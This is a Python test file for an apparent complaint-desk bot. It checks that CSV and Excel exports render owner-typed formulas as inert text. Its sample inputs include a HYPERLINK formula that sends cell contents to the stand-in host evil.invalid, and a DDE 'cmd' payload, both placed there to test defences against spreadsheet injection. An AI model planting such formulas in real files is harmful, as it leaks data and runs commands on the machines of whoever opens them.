"""Exports that cannot run: an owner's formula reaches the archive as text, never as a
live formula (OWASP "CSV injection"), in the case archive and in the statistics report."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone

import openpyxl

from bot.bootstrap import App
from cases.lifecycle import Actor, Case
from services.reports.statistics import Column, Report, Table, export_cases, to_csv, to_xlsx

FORMULA = '=HYPERLINK("http://evil.invalid/?"&J2&K2,"点此查看照片")'
HOSTILE = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


async def open_case(app: App, description: str, place: str = "") -> int:
    async with app.uow() as uow:
        community = await uow.directory.community()
        owner = await uow.directory.owner_by_phone(community.id, "13800000001")
        case = Case.open(kind="complaint", urgency="normal", category="common", area="", now=app.now(),
                         by=Actor("owner", owner.id), description=description, owner_id=owner.id,
                         community_id=community.id, place=place)
        case.dispatch("customer_service", app.now(), community.policy)
        case_id = await uow.cases.add(case)
        await uow.commit()
        return case_id


async def test_a_formula_in_a_description_is_text_in_the_workbook_and_quoted_in_the_csv(app: App) -> None:
    ids = [await open_case(app, text) for text in HOSTILE]
    day = app.now().astimezone(timezone.utc).date()
    period = (date.fromordinal(day.toordinal() - 1), date.fromordinal(day.toordinal() + 2))

    book = openpyxl.load_workbook(io.BytesIO(await export_cases(app.uow(), *period, "xlsx", now=app.now())))
    sheet = book["Cases"]
    header = [c.value for c in sheet[1]]
    described = {row[0].value: row[header.index("description")] for row in sheet.iter_rows(min_row=2)}
    for case_id, text in zip(ids, HOSTILE):
        cell = described[case_id]
        # Text, the owner's words intact (the XML reader trims a leading tab or CR).
        assert cell.data_type == "s" and cell.value.strip() == text.strip() and cell.quotePrefix
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)

    rows = list(csv.DictReader(io.StringIO((await export_cases(app.uow(), *period, "csv", now=app.now())).decode("utf-8-sig"))))
    by_id = {int(r["case"]): r for r in rows}
    for case_id, text in zip(ids, HOSTILE):
        assert by_id[case_id]["description"] == "'" + text.strip()  # the desk trims what owners type
    assert by_id[ids[0]]["description"].startswith("'=HYPERLINK(")


def test_every_text_cell_of_a_report_is_neutralised() -> None:
    at = datetime(2026, 6, 1)  # local wall time, as the report views give it
    report = Report("=title", [("-meta", "@value")], [
        Table("Sheet", "=table", [Column("=col"), Column("n", "int"), Column("when", "time")],
              [[FORMULA, 3, at], ["plain", -4, at]]),
    ], legend=("+legend",))
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    cells = [c for row in rows for c in row if c]
    assert all(c[:1] not in "=+-@\t\r" for c in cells if c != "-4"), cells  # a signed number stays one
    assert ["'" + FORMULA, "3", "2026-06-01 00:00"] in rows and ["plain", "-4", "2026-06-01 00:00"] in rows

    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(report)))
    values = [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert (FORMULA, "s") in values and (-4, "n") in values  # numbers stay numbers
    assert not any(t == "f" for _, t in values)
